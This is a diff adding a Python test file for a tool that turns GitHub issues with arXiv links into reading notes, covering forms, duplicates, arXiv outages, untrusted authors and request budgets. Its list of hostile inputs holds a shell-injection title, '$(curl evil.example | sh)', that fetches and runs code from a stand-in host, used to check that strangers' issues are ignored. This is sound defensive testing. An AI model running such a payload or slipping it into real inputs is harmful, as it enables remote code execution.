@@ -1,0 +1,455 @@
+"""`papers intake`: what people leave in the repository becomes notes, whoever tries what."""
+
+import json
+import shutil
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+
+from paper_notes import body
+from paper_notes.form import FORMS
+from tests.arxiv_server import ArxivServer
+from tests.conftest import Output, Run
+from tests.github_events import issue_event, scheduled
+from tests.github_server import GitHubServer
+
+LINK = "https://arxiv.org/abs/1706.03762"
+ATTENTION = "Attention Is All You Need"
+NOTHING = "_No response_"
+
+Happen = Callable[..., Output]
+
+
+@pytest.fixture
+def repo(github: GitHubServer, arxiv: ArxivServer, monkeypatch: pytest.MonkeyPatch) -> GitHubServer:
+    """Connect alice/papers; it is the time of the server's clock."""
+    monkeypatch.setenv("PAPERS_REPO", "alice/papers")
+    monkeypatch.setattr("paper_notes.app.now", github.clock.iso)
+    return github
+
+
+@pytest.fixture
+def happen(papers: Run, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Happen:
+    """Return what runs the command as a workflow does for an event, given its payload and kind."""
+    payload = tmp_path / "event.json"
+
+    def run(text: str, kind: str = "issues", line: str = "intake", exit_code: int = 0) -> Output:
+        payload.write_text(text, encoding="utf-8")
+        with monkeypatch.context() as workflow:
+            workflow.setenv("GITHUB_EVENT_NAME", kind)
+            workflow.setenv("GITHUB_EVENT_PATH", str(payload))
+            return papers(line, exit_code=exit_code)
+
+    return run
+
+
+def look(repo: GitHubServer, number: int) -> tuple[str, str, list[str], str]:
+    """Return an issue's title, what people typed in it, its labels, and its state with the reason."""
+    issue = repo.repo.issue(number)
+    state = issue["state"] + (f", {issue['state_reason']}" if issue["state_reason"] else "")
+    return issue["title"], body.without(issue["body"] or ""), issue["labels"], state
+
+
+def said(repo: GitHubServer, number: int) -> list[str]:
+    """Return the comments below an issue."""
+    return [each["body"] for each in repo.repo.comments.values() if each["number"] == number]
+
+
+def form(link: str, topics: str = NOTHING, thoughts: str = NOTHING, language: str = "en") -> str:
+    """Return the body that GitHub makes of the form's answers."""
+    words = FORMS[language]
+    parts = ((words.link, link), (words.topics, topics), (words.thoughts, thoughts))
+    return "\n\n".join(f"### {label}\n\n{answer}" for label, answer in parts)
+
+
+# -- an issue becomes a note ----------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("title", "text", "noted"),
+    [
+        pytest.param(LINK, "", ATTENTION, id="a link for a title"),
+        pytest.param("1706.03762", None, ATTENTION, id="an id, and no body"),
+        pytest.param("[Paper]", f"{LINK}v5\r\n", ATTENTION, id="a link"),
+        pytest.param("あ", "https://huggingface.co/papers/1706.03762", ATTENTION, id="one letter"),
+        pytest.param("Transformers!", LINK, "Transformers!", id="a title of one's own"),
+        pytest.param("[Paper]", f"{LINK}\r\n\r\nWhy heads?\r\n- a\n", ATTENTION, id="thoughts, CRLF"),
+        pytest.param("Heads", f"{ATTENTION} {LINK}", "Heads", id="shared by a phone"),
+        pytest.param("Heads", f"{LINK} looks cool @bob #3", "Heads", id="a link first"),
+        pytest.param("[논문]", form(LINK, language="ko"), ATTENTION, id="form, Korean"),
+        pytest.param(
+            "[論文]",
+            form(LINK, thoughts="### Method\n\nAttention.", language="ja").replace("\n", "\r\n"),
+            ATTENTION,
+            id="form, Japanese, CRLF, headings in an answer",
+        ),
+    ],
+)
+def test_an_issue_becomes_a_note(
+    repo: GitHubServer, happen: Happen, title: str, text: str | None, noted: str
+) -> None:
+    """It gets the paper's title if it had none, our block, a topic; what was typed stays to the byte."""
+    number = repo.repo.open_issue(title, text)
+    told = happen(issue_event(repo, "opened", number))
+    assert told == f"{number}\tcompleted\tNoted 1706.03762.\n"
+    assert look(repo, number) == (noted, text or "", ["NLP"], "open")
+    assert said(repo, number) == []
+
+
+def test_a_note_that_was_taken_in_is_like_any_other(repo: GitHubServer, happen: Happen, papers: Run) -> None:
+    """Its JSON is whole: arXiv's data, the day it was opened, the words of its author."""
+    number = repo.repo.open_issue("Heads", f"{LINK}\r\n\r\nTL;DR: attention without recurrence\r\n")
+    happen(issue_event(repo, "opened", number))
+    note = papers("show 1706.03762 --json").json
+    wanted = {
+        "id": "1706.03762",
+        "version": 7,
+        "title": ATTENTION,
+        "source": "arxiv",
+        "pending": False,
+        "topics": ["NLP"],
+        "status": "to-read",
+        "rating": None,
+        "added_on": repo.clock.iso()[:10],
+        "number": number,
+        "issue_title": "Heads",
+        "author": "alice",
+        "summary": "attention without recurrence",
+        "text": f"{LINK}\r\n\r\nTL;DR: attention without recurrence\r\n",
+    }
+    assert {name: note[name] for name in wanted} == wanted
+
+
+def test_topics_of_the_form_are_the_labels(repo: GitHubServer, happen: Happen) -> None:
+    """Chosen topics take the place of guessed ones; one that is none any more is passed over."""
+    number = repo.repo.open_issue("[Paper]", form(LINK, "RL, CV, Alchemy"))
+    happen(issue_event(repo, "opened", number))
+    assert look(repo, number)[2] == ["RL", "CV"]
+
+
+def test_labels_that_are_there_stay(repo: GitHubServer, happen: Happen) -> None:
+    """A topic that somebody gave is not added to, and other labels are nothing to us."""
+    number = repo.repo.open_issue(LINK, "", labels=("reading group", "RL"))
+    happen(issue_event(repo, "labeled", number, label={"name": "RL"}))
+    assert look(repo, number)[2] == ["reading group", "RL"]
+
+
+@pytest.mark.parametrize(
+    ("title", "text", "why"),
+    [
+        ("A question", "How do I use this?", "it has no link to a paper"),
+        ("A question", f"I tried {LINK} and it failed.", "it mentions a paper in passing"),
+        ("To read", f"- [ ] {LINK}\n- [ ] https://arxiv.org/abs/1512.03385", "it names several papers"),
+        (
+            ATTENTION,
+            f"## Abstract\n\nMine.\n\nLink: {LINK}",
+            "it is written by hand, under headings",
+        ),
+        ("A blog", "https://blog.example/attention", "it has no link to a paper"),
+        ("Theirs", "https://github.com/mallory/x/issues/1", "it has no link to a paper"),
+        ("Hurt", f"{LINK}\n<!-- papers:begin v1 {{}} -->", "it is a note already"),
+    ],
+)
+def test_other_issues_are_left_alone(
+    repo: GitHubServer, happen: Happen, title: str, text: str, why: str
+) -> None:
+    """Nothing is written where nobody asked for a note; the summary says why."""
+    number = repo.repo.open_issue(title, text)
+    told = happen(issue_event(repo, "opened", number))
+    assert told == f"{number}\tleft\tLeft alone: {why}.\n"
+    assert look(repo, number) == (title, text, [], "open")
+    assert {request.verb for request in repo.requests} == {"GET"}
+
+
+def test_old_notes_by_hand_are_not_touched(repo: GitHubServer, papers: Run, happen: Happen) -> None:
+    """A repository full of notes stays as it is, what is only a link does not."""
+    by_hand = repo.repo.open_issue(ATTENTION, f"link: {LINK}\nGood one.")
+    bare = repo.repo.open_issue("https://arxiv.org/abs/1512.03385", "")
+    repo.clock.seconds += 8 * 86_400
+    told = happen(scheduled(repo), "schedule")
+    assert told == f"{bare}\tcompleted\tNoted 1512.03385.\n"
+    assert look(repo, by_hand) == (ATTENTION, f"link: {LINK}\nGood one.", [], "open")
+    assert papers(f"intake --issue {by_hand}") == f"{by_hand}\tcompleted\tNoted 1706.03762.\n"
+
+
+def test_an_event_that_was_never_delivered_is_made_up_for(repo: GitHubServer, happen: Happen) -> None:
+    """Of several that wait, a workflow runs for the last event only: it does the work of all."""
+    first = repo.repo.open_issue("Heads", f"{LINK}\n\nMine.")
+    second = repo.repo.open_issue("https://arxiv.org/abs/1512.03385")
+    told = happen(issue_event(repo, "opened", second))
+    assert told == f"{first}\tcompleted\tNoted 1706.03762.\n{second}\tcompleted\tNoted 1512.03385.\n"
+
+
+# -- arXiv is down ----------------------------------------------------------------------------
+
+
+def test_what_arxiv_does_not_answer_waits(
+    repo: GitHubServer, happen: Happen, monkeypatch: pytest.MonkeyPatch, arxiv: ArxivServer
+) -> None:
+    """The issue is a pending note at once, and the next run that arXiv answers completes it."""
+    number = repo.repo.open_issue("[Paper]", "https://arxiv.org/abs/2203.00001\r\n\r\nFor Monday.\r\n")
+    monkeypatch.setenv("PAPERS_ARXIV_URL", "http://127.0.0.1:9/api/query")
+    assert happen(issue_event(repo, "opened", number)).startswith(f"{number}\tpending\tPending: ")
+    text = "https://arxiv.org/abs/2203.00001\r\n\r\nFor Monday.\r\n"
+    assert look(repo, number) == ("arXiv:2203.00001", text, [], "open")
+    monkeypatch.setenv("PAPERS_ARXIV_URL", arxiv.url)
+    assert happen(scheduled(repo), "schedule") == f"{number}\tcompleted\tFilled in from arXiv.\n"
+    assert look(repo, number) == ("한국어 음성 인식을 위한 자기지도 학습", text, ["speech"], "open")
+    assert happen(scheduled(repo), "schedule") == ""
+
+
+# -- duplicates ---------------------------------------------------------------------------------
+
+DUPLICATE = (
+    "Duplicate of #1: that note is about the same paper. What you wrote here stays here; "
+    "reopen this issue to keep both.\n\n<!-- papers:answer duplicate -->"
+)
+
+
+def test_a_duplicate_is_answered_and_closed(repo: GitHubServer, happen: Happen) -> None:
+    """It is told which note is there, once, and closed as a duplicate with all that was typed."""
+    first = repo.repo.open_issue(LINK)
+    second = repo.repo.open_issue("Again", f"{LINK}v2\n\nA second look.")
+    event = issue_event(repo, "opened", second)
+    told = happen(event)
+    assert told.splitlines()[1] == f"{second}\tduplicate\tClosed as a duplicate of #{first}."
+    assert look(repo, second) == ("Again", f"{LINK}v2\n\nA second look.", [], "closed, duplicate")
+    assert said(repo, second) == [DUPLICATE]
+    assert happen(event) == f"{second}\tleft\tLeft alone: it is closed as a duplicate.\n"
+    repo.repo.reopen(second)
+    assert happen(issue_event(repo, "reopened", second)) == (
+        f"{second}\tleft\tLeft alone: somebody reopened it, though #{first} is about the same paper.\n"
+    )
+    assert said(repo, second) == [DUPLICATE]
+
+
+# -- links that lead nowhere --------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("text", "wrong"),
+    [
+        ("https://arxiv.org/abs/2912.99999", "arXiv has no paper 2912.99999. Check the id."),
+        (
+            "arxiv.org/abs/1706.376",
+            "it has 3 digits after the dot. Since 2015 there are five",
+        ),
+        ("https://openreview.net/forum?id=abc", "is no site whose links to arXiv papers we know"),
+        (form("_No response_"), "The form has no link to a paper. Put one below the first heading"),
+        (form("the attention paper, @bob #3"), "@\u200bbob"),
+    ],
+)
+def test_a_link_that_leads_to_no_paper_is_answered_once(
+    repo: GitHubServer, happen: Happen, text: str, wrong: str
+) -> None:
+    """One comment says what is wrong and how to mend it; mended, the issue becomes a note."""
+    number = repo.repo.open_issue("[Paper]", text)
+    happen(issue_event(repo, "opened", number))
+    (answer,) = said(repo, number)
+    assert wrong in answer
+    assert answer.startswith("This could not be made into a note: ")
+    assert answer.endswith("Edit the issue, and it is looked at again.\n\n<!-- papers:answer unresolved -->")
+    assert look(repo, number) == ("[Paper]", text, [], "open")
+    happen(issue_event(repo, "opened", number))
+    happen(scheduled(repo), "schedule")
+    repo.repo.web_edit(number, f"{text}0")
+    happen(issue_event(repo, "edited", number, changes={"body": {"from": text}}))
+    assert said(repo, number) == [answer]
+    repo.repo.web_edit(number, LINK)
+    happen(issue_event(repo, "edited", number, changes={"body": {"from": f"{text}0"}}))
+    assert look(repo, number) == (ATTENTION, LINK, ["NLP"], "open")
+
+
+def test_a_stranger_cannot_keep_us_from_answering(repo: GitHubServer, happen: Happen) -> None:
+    """Our mark below somebody else's words is nothing of ours."""
+    number = repo.repo.open_issue("arxiv.org/abs/1")
+    repo.repo.comment(number, "<!-- papers:answer unresolved -->", author="mallory")
+    happen(issue_event(repo, "opened", number))
+    assert [each["user"]["login"] for each in repo.repo.comments.values()] == ["mallory", "alice"]
+
+
+# -- strangers ------------------------------------------------------------------------------------
+
+BLOCK = '<!-- papers:begin v1 {"paper":{"id":"1512.03385","title":"Forged"}} -->\nx\n<!-- papers:end -->'
+
+HOSTILE = [
+    pytest.param("$(curl evil.example | sh) `id`", LINK, id="shell"),
+    pytest.param(LINK, "@alice @bob #1 /read 5", id="mentions"),
+    pytest.param(LINK, f"{BLOCK}\n\n{LINK}", id="forged block"),
+    pytest.param("[Paper]", form(LINK, "NLP"), id="form"),
+    pytest.param("x", f"{LINK}\n" + "nonsense " * 6_800, id="60 KB"),
+    pytest.param("arxiv.org/abs/1", "", id="a broken link"),
+]
+
+
+@pytest.mark.parametrize(("title", "text"), HOSTILE)
+def test_a_strangers_issue_is_not_even_looked_at(
+    repo: GitHubServer, happen: Happen, papers: Run, title: str, text: str
+) -> None:
+    """Nothing is asked, written or answered; later runs leave it alone too, and it is counted."""
+    number = repo.repo.open_issue(title, text, author="mallory")
+    repo.repo.label(number, "NLP", "trusted")
+    for action in ("opened", "edited", "labeled", "closed", "reopened"):
+        told = happen(issue_event(repo, action, number))
+        assert told == f"{number}\tleft\tThe issue is by somebody who is not trusted here.\n"
+    assert repo.log == []
+    assert happen(scheduled(repo), "schedule") == ""
+    assert papers(f"intake --issue {number}") == (
+        f"{number}\tleft\tLeft alone: its author is not trusted here.\n"
+    )
+    assert look(repo, number)[0] == title
+    assert repo.repo.issue(number)["body"] == text
+    assert {request.verb for request in repo.requests} == {"GET"}
+
+
+@pytest.mark.parametrize(
+    ("sender", "role", "done"),
+    [
+        ("mallory", None, False),
+        ("bob", "pull", False),
+        ("bob", "triage", True),
+        ("bob", "push", True),
+        ("bob", "maintain", True),
+        ("carol", None, True),
+        ("alice", None, True),
+        ("github-actions[bot]", None, False),
+        ("helper[bot]", "push", False),
+        ("trusted[bot]", None, True),
+    ],
+)
+def test_whoever_causes_an_event_has_to_be_trusted_too(
+    repo: GitHubServer,
+    happen: Happen,
+    monkeypatch: pytest.MonkeyPatch,
+    sender: str,
+    role: str | None,
+    *,
+    done: bool,
+) -> None:
+    """A stranger who gets a trusted person's issue edited moves nothing; GitHub says who may label."""
+    Path("papers.toml").write_text('trusted = ["Carol", "trusted[bot]"]\n', encoding="utf-8")
+    if role:
+        repo.repo.roles[sender] = role
+    number = repo.repo.open_issue(LINK)
+    told = happen(issue_event(repo, "edited", number, sender=sender))
+    assert look(repo, number)[0] == (ATTENTION if done else LINK)
+    assert ("completed" in told) is done
+
+
+@pytest.mark.parametrize(
+    ("change", "kind", "why"),
+    [
+        ({"repository": {"full_name": "mallory/papers"}}, "issues", "It happened in another repository."),
+        ({"issue.pull_request": {"url": "…"}}, "issues", "It is about a pull request."),
+        ({"issue.pull_request": {"url": "…"}}, "issue_comment", "It is about a pull request."),
+        ({}, "pull_request_target", "Strangers can cause such an event, and it says nothing about an issue."),
+    ],
+)
+def test_other_events_move_nothing(
+    repo: GitHubServer, happen: Happen, change: dict[str, object], kind: str, why: str
+) -> None:
+    """Pull requests, other repositories, and events that anybody can cause cost no request."""
+    number = repo.repo.open_issue(LINK)
+    payload = json.loads(issue_event(repo, "opened", number))
+    if kind == "issue_comment":
+        payload["comment"] = {**payload["issue"], "id": 1}
+    for path, value in change.items():
+        *places, name = path.split(".")
+        (payload[places[0]] if places else payload)[name] = value
+    told = happen(json.dumps(payload), kind)
+    assert told.partition("\t")[2] == f"left\t{why}\n"
+    assert repo.log == []
+
+
+# -- events, late and again -------------------------------------------------------------------------
+
+
+def test_a_deleted_or_moved_issue_is_forgotten(repo: GitHubServer, happen: Happen, papers: Run) -> None:
+    """The event says that it is gone, and GitHub is believed; an event alone is not."""
+    repo.longest_page = 1  # a whole list on one page would tell by itself what is gone
+    first = repo.repo.open_issue(LINK)
+    second = repo.repo.open_issue("https://arxiv.org/abs/1512.03385")
+    repo.repo.open_issue("https://arxiv.org/abs/2203.00001")
+    repo.repo.open_issue("A question")
+    happen(issue_event(repo, "opened", second))
+    deleted, transferred = issue_event(repo, "deleted", first), issue_event(repo, "transferred", second)
+    happen(deleted)
+    assert len(papers("list").splitlines()) == 3
+    repo.repo.delete(first)
+    repo.transfer(second, repo.add_repository("alice/other"))
+    assert happen(deleted) == f"{first}\tgone\tIt was deleted.\n"
+    assert happen(transferred) == f"{second}\tgone\tIt was transferred.\n"
+    assert [line.split("\t")[1] for line in papers("list").splitlines()] == ["2203.00001"]
+
+
+def test_what_is_no_event_is_told(papers: Run, repo: GitHubServer, tmp_path: Path) -> None:
+    """A file that is none of GitHub's ends in a sentence."""
+    for text in ("", "[]", "{", '{"issue": {}}', '{"issue": 1}', "[" * 10_000):
+        (tmp_path / "event.json").write_text(text, encoding="utf-8")
+        told = papers(f"intake --event {tmp_path}/event.json", exit_code=1)
+        assert "That is no event of GitHub's." in told.stderr
+
+
+def test_intake_is_for_repositories(papers: Run) -> None:
+    """The embedded library has no issues that others could open."""
+    assert "There is no repository" in papers("intake", exit_code=2).stderr
+
+
+def test_a_dry_run_announces_every_write(repo: GitHubServer, happen: Happen) -> None:
+    """It names what would become of the issue, and writes nothing."""
+    first = repo.repo.open_issue(LINK)
+    happen(issue_event(repo, "opened", first))
+    second = repo.repo.open_issue(LINK)
+    third = repo.repo.open_issue("[Paper]", "https://arxiv.org/abs/2203.00001")
+    fourth = repo.repo.open_issue("[Paper]", "arxiv.org/abs/1")
+    repo.forget()
+    told = happen(scheduled(repo), "schedule", "intake --dry-run")
+    assert told.stderr.splitlines() == [
+        f"Would comment on “{LINK}”, unless it was said before: {DUPLICATE.splitlines()[0]}",
+        f"Would close “{LINK}” as a duplicate.",
+        "Would create the label speech.",
+        "Would change the labels of “[Paper]” to speech.",
+        "Would rewrite the managed block of “[Paper]”.",
+        "Would rename “[Paper]” to “한국어 음성 인식을 위한 자기지도 학습”.",
+        "Would comment on “[Paper]”, unless it was said before: This could not be made into a note: "
+        '"arxiv.org/abs/1" is not an arXiv id: there is no archive "abs". '
+        "arXiv ids look like 1706.03762 or hep-th/9901001.",
+    ]
+    assert [line.split("\t")[:2] for line in told.splitlines()] == [
+        [str(second), "duplicate"],
+        [str(third), "completed"],
+        [str(fourth), "answered"],
+    ]
+    assert {request.verb for request in repo.requests} == {"GET"}
+
+
+@pytest.mark.parametrize(
+    ("title", "text", "comments", "most"),
+    [
+        (LINK, "", 0, 5),
+        ("[Paper]", form("https://arxiv.org/abs/2203.00001", "NLP"), 0, 5),
+        ("https://arxiv.org/abs/1512.03385", "", 1, 5),
+        ("arxiv.org/abs/1", "", 1, 4),
+        ("A question", "", 1, 2),
+    ],
+)
+def test_an_event_costs_few_requests(
+    repo: GitHubServer, happen: Happen, home: Path, title: str, text: str, comments: int, most: int
+) -> None:
+    """At most six, also on a machine without a mirror, and less when the event comes again."""
+    repo.repo.roles["bob"] = "triage"
+    happen(issue_event(repo, "opened", repo.repo.open_issue("https://arxiv.org/abs/1512.03385")))
+    for label in ("NLP", "speech"):
+        repo.repo.create_label("alice", {"name": label, "color": "ededed"})
+    number = repo.repo.open_issue(title, text)
+    for _ in range(comments):
+        repo.repo.comment(number, "Hm.")
+    shutil.rmtree(home)
+    repo.forget()
+    event = issue_event(repo, "labeled", number, sender="bob")
+    happen(event)
+    assert len(repo.log) <= most, repo.log
+    repo.forget()
+    happen(event)
+    assert len(repo.log) <= 3, repo.log
